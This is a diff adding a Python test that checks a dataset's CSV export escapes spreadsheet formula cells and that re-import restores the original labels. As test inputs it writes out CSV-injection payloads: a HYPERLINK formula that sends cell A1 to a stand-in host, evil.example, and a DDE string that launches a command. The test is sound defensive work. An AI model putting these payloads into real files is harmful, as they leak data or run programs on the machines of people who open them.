@@ -84,3 +84,25 @@ def test_a_closed_quote_that_swallowed_rows_is_reported(audio_folder, tmp_path):
     report = import_csv(dataset, path)
     assert [(i.row, i.column) for i in report.issues] == [(2, "caption")]
     assert "look like rows of their own" in report.issues[0].message
+
+
+def test_formula_cells_are_escaped_on_export_and_come_back_unchanged(audio_folder, tmp_path):
+    import csv as csv_module
+
+    from shared.dataset_csv import FORMULA_STARTS, export_csv
+
+    dataset = scan_folder(audio_folder).dataset
+    alpha, beta, gamma = dataset.samples
+    alpha.caption, alpha.genre = '=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0"
+    beta.lyrics, beta.custom_tag = "- first line\n- second", "@SUM(1+1)"
+    gamma.caption, gamma.genre = "\tindented", "'=already quoted"
+    path = export_csv(dataset, tmp_path / "labels.csv")
+    with open(path, newline="", encoding="utf-8") as fh:
+        cells = [cell for row in csv_module.reader(fh) for cell in row]
+    assert not [c for c in cells if c.startswith(FORMULA_STARTS)], "a spreadsheet would run these"
+    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")" in cells and "''=already quoted" in cells
+    fresh = scan_folder(audio_folder).dataset
+    assert import_csv(fresh, path).ok
+    labels = [(s.caption, s.genre, s.lyrics, s.custom_tag) for s in fresh.samples]
+    gamma.caption = "indented"  # import strips the edges of every text cell, as it always did
+    assert labels == [(s.caption, s.genre, s.lyrics, s.custom_tag) for s in dataset.samples]
